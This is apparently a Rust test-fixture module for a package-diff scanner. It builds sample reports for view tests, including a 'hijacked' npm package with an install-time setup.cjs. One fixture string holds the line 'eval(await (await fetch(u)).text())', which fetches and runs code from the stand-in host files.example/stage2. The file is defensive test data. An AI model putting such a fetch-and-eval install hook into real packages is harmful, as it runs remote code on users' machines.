//! Comparisons for the tests of every view; all are inert.
use cleanbill_model::{Evidence, Level, Unassessed};

use super::{DiffChain, DiffChange, DiffDependency, DiffFiles, DiffHost, DiffReport, DiffSide};

fn side(version: &str) -> DiffSide {
    DiffSide {
        asked: format!("left@{version}").into(),
        name: Some("left".into()),
        version: Some(version.into()),
        integrity: None,
    }
}

pub(super) fn same() -> DiffReport {
    DiffReport {
        tool_version: "0.1.0".to_owned(),
        old: side("1.2.2"),
        new: side("1.2.3"),
        patch: true,
        ..DiffReport::default()
    }
}

pub(super) fn hijacked() -> DiffReport {
    hostile("`setup.cjs` is new", "https://files.example/stage2")
}

/// The hijacked one with `text` and `value` wherever a package may speak.
pub(super) fn hostile(text: &str, value: &str) -> DiffReport {
    let step = |note: &str| {
        Evidence::note(note)
            .file("setup.cjs")
            .at(3, 7)
            .decoded(value)
            .excerpt("const run = eval(await (await fetch(u)).text());\nmodule.exports = run;")
    };
    DiffReport {
        level: Some(Level::Block),
        gained: vec!["network".to_owned(), "process".to_owned()],
        lost: vec!["native".to_owned()],
        chains: vec![DiffChain {
            id: "FLO-03".to_owned(),
            trigger: "install".to_owned(),
            level: Level::Block,
            host: Some((
                value.into(),
                "a host nothing else in the package names".to_owned(),
            )),
            steps: vec![step("the response is read"), step(text)],
        }],
        changes: vec![
            DiffChange {
                kind: "trigger".to_owned(),
                counts: true,
                note: text.into(),
                steps: vec![Evidence::note(text).file("package.json").at(1, 1)],
            },
            DiffChange {
                kind: "capability".to_owned(),
                counts: false,
                note: "the package gains the capability `network`".into(),
                steps: vec![step("network"), step("network")],
            },
        ],
        hosts: vec![
            DiffHost {
                added: true,
                host: value.into(),
                class: "a host nothing else in the package names".to_owned(),
                place: step("speaks to it"),
            },
            DiffHost {
                added: false,
                host: "docs.example".into(),
                class: "a host its manifest names as home".to_owned(),
                place: Evidence::note("spoke to it").file("index.js").at(9, 1),
            },
        ],
        dependencies: vec![
            DiffDependency {
                map: "dependencies".to_owned(),
                name: text.into(),
                old: None,
                new: Some(value.into()),
            },
            DiffDependency {
                map: "dependencies".to_owned(),
                name: "right".into(),
                old: Some("^1.0.0".into()),
                new: Some("^2.0.0".into()),
            },
            DiffDependency {
                map: "optionalDependencies".to_owned(),
                name: "under".into(),
                old: Some("^1.0.0".into()),
                new: None,
            },
        ],
        files: vec![DiffFiles {
            kind: "java-script".to_owned(),
            added: (0..14)
                .map(|n| format!("lib/{n}.js").into())
                .chain([text.into()])
                .collect(),
            removed: vec!["old.js".into()],
            changed: vec!["index.js".into()],
        }],
        decoded: vec![step("decoded here")],
        unassessed: vec![Unassessed {
            file: Some("big.js".into()),
            reason: text.into(),
        }],
        ..same()
    }
}
